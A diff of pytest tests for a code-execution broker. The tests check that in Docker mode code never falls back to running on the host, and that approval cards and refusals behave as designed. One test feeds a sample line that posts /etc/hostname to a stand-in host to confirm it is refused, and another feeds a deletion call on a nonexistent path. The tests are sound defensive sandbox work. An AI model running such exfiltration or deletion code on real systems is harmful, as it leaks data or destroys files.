@@ -63,31 +63,58 @@ def test_local_channel_grant_labelled_asks_naming_labels(broker):
     assert "grant never covers" in card["reason"]
 
 
-def test_docker_plain_never_runs_on_host(make_broker):
-    b = make_broker(extra_args=["--sandbox", "docker"]).start()
-    card, end, out = outcome(b, PLAIN)
-    assert card is None and end["type"] == "error" and out == b""
-    assert "never falls back to the host" in end["message"]
+# Docker mode with an engine nobody can reach: the rows of the table hold,
+# and whatever should run fails at the engine step, never on the host.
+# tests/container/ runs the same rows against a real podman.
+DOCKER_UNREACHABLE = ("[broker]\nsandbox = docker\n[docker]\ncli = podman\n"
+                      "image = localhost/kotoba-test-python:bookworm\n"
+                      "url = unix:///nonexistent/kotoba-engine.sock\n")
+# Prints if it runs anywhere; unlabelled, so it runs without a card.
+RAN_MARK = "import os\nprint('ran on', os.uname().nodename)\n"
+
+
+def assert_never_on_host(end, out):
+    assert end["type"] == "error" and end["code"] == "setup-failed", end
+    assert end["step"] == "engine" and out == b"", end
+    assert "nothing ever runs on the host instead" in end["message"]
+
+
+def test_docker_plain_runs_without_card_and_never_on_host(make_broker):
+    b = make_broker(config=DOCKER_UNREACHABLE).start()
+    card, end, out = outcome(b, RAN_MARK)
+    assert card is None
+    assert_never_on_host(end, out)
+
+
+def test_docker_no_channel_plain_never_on_host(make_broker):
+    b = make_broker(config=DOCKER_UNREACHABLE).start()
+    card, end, out = outcome(b, RAN_MARK, channel=False)
+    assert card is None
+    assert_never_on_host(end, out)
 
 
 def test_docker_labelled_asks(make_broker):
-    b = make_broker(extra_args=["--sandbox", "docker"]).start()
+    b = make_broker(config=DOCKER_UNREACHABLE).start()
     card, end, _ = outcome(b, LABELLED)
     assert card is not None and end["code"] == "denied"
 
 
 def test_docker_approved_card_never_runs_on_host(make_broker):
-    b = make_broker(extra_args=["--sandbox", "docker"]).start()
-    card, end, out = outcome(b, "import os\nprint('ran on', os.uname().nodename)\n"
-                                "open('/tmp/x', 'w')", answer="once")
+    b = make_broker(config=DOCKER_UNREACHABLE).start()
+    card, end, out = outcome(b, "import shutil\nshutil.rmtree('/nonexistent-kotoba')\n"
+                             + RAN_MARK, answer="once")
     assert card is not None
-    assert end["type"] == "error" and end["code"] == "setup-failed" and out == b""
-    assert "never falls back to the host" in end["message"]
+    assert_never_on_host(end, out)
 
 
-@pytest.mark.parametrize("mode", ["local", "docker"])
-def test_no_channel_labelled_is_refused_in_plain_words(make_broker, mode):
-    b = make_broker(extra_args=["--sandbox", mode]).start()
+def test_docker_needs_an_image(make_broker):
+    with pytest.raises(RuntimeError, match=r"sandbox = docker needs \[docker\] image"):
+        make_broker(extra_args=["--sandbox", "docker"]).start()
+
+
+@pytest.mark.parametrize("config", ["", DOCKER_UNREACHABLE], ids=["local", "docker"])
+def test_no_channel_labelled_is_refused_in_plain_words(make_broker, config):
+    b = make_broker(config=config).start()
     card, end, _ = outcome(b, "import requests\nrequests.post('https://x.example', data=open('/etc/hostname').read())", channel=False)
     assert card is None and end["code"] == "refused"
     assert "sends data out over the network" in end["message"]
